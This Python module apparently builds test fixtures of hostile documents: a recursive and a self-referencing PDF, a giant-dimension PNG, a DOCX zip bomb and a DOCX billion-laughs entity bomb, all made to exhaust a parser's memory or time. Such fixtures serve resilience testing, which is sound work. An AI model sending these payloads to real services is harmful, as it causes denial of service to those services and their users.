"""Documents that mean harm: small files that would take a program that trusts them all its memory or time."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf_of(objects: Sequence[bytes]) -> bytes:
    """A PDF file of objects, the first of which is its catalog."""
    body = b"%PDF-1.4\n"
    offsets = []
    for number, text in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, text)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))
    return b"%bxref\n0 %d\n0000000000 65535 f \n%b%b" % (body, size, table, trailer)


def endless_pdf(levels: int = 9, uses: int = 12) -> bytes:
    """Two kilobytes of a PDF in which each drawing uses the next one `uses` times: no machine draws it to the end."""
    drawing = zlib.compress(b"/F Do " * uses)
    forms = [
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Filter /FlateDecode /Length %d"
        b" /Resources << /XObject << /F %d 0 R >> >> >>\nstream\n%b\nendstream"
        % (len(drawing), min(7 + level, 5 + levels), drawing)
        for level in range(levels)
    ]
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Resources 4 0 R >>",
            b"<< /XObject << /F 6 0 R >> >>",
            b"<< /Length 6 >>\nstream\n/F Do \nendstream",
            *forms,
        ]
    )


def self_drawing_pdf() -> bytes:
    """Less than a kilobyte of PDF whose one drawing draws itself twice."""
    drawing = b"/F Do /F Do"
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources 6 0 R >>",
            b"<< /Length %d >>\nstream\n%b\nendstream" % (len(drawing), drawing),
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources 6 0 R /Length %d >>"
            b"\nstream\n%b\nendstream" % (len(drawing), drawing),
            b"<< /XObject << /F 5 0 R >> >>",
        ]
    )


def huge_png(side: int = 60_000) -> bytes:
    """A one-bit PNG of so many dots across and down, all black, in a few hundred kilobytes."""
    row = b"\0" * (1 + side // 8)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row * 100) for _ in range(side // 100)) + packer.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def docx(body: str, **parts: bytes) -> bytes:
    """A Word document with this body, and other parts by name (`_` for the slash is `__`)."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/></Types>'
    )
    relationships = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    main = f'<?xml version="1.0"?><w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", types)
        package.writestr("_rels/.rels", relationships)
        package.writestr("word/document.xml", main)
        for name, data in parts.items():
            package.writestr(name.replace("__", "/"), data)
    return file.getvalue()


def zip_bomb_docx(megabytes: int = 300) -> bytes:
    """A Word document of some hundred kilobytes that unpacks to so much."""
    return docx("<w:p/>", **{"word/media/image1.png": b"\0" * (megabytes * 1024**2)})


def entity_bomb_docx() -> bytes:
    """A Word document whose text grows from entities within entities."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    main = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{entities}]><w:document xmlns:w="{WORD}"><w:body>'
    main += "<w:p><w:r><w:t>&e11;</w:t></w:r></w:p></w:body></w:document>"
    file = io.BytesIO(docx(""))
    whole = io.BytesIO()
    with zipfile.ZipFile(file) as old, zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, main if name == "word/document.xml" else old.read(name))
    return whole.getvalue()
